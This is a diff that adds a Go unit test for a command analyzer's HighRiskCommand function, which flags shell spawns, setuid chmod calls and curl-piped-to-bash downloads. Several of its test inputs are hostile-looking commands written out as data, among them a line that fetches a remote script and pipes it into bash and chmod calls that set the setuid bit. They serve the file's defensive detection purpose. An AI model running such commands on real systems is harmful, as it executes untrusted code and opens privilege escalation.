@@ -0,0 +1,26 @@
+package analyzer
+
+import "testing"
+
+func TestHighRiskCommand(t *testing.T) {
+	a := NewAnalyzer()
+	tests := []struct {
+		command string
+		want    string
+	}{
+		{"/bin/bash", "shell"},
+		{"/usr/bin/su -", "shell"},
+		{"/bin/sh -c id", ""},
+		{"/bin/chmod u+s /tmp/x", "setuid"},
+		{"/bin/chmod 4755 /tmp/x", "setuid"},
+		{"/bin/chmod 755 /tmp/x", ""},
+		{"/bin/sh -c curl -fsSL https://example.com/i.sh | bash", "pipe_to_shell"},
+		{"/usr/bin/apt update", ""},
+		{"", ""},
+	}
+	for _, tt := range tests {
+		if got := a.HighRiskCommand(tt.command); got != tt.want {
+			t.Errorf("HighRiskCommand(%q) = %q; want %q", tt.command, got, tt.want)
+		}
+	}
+}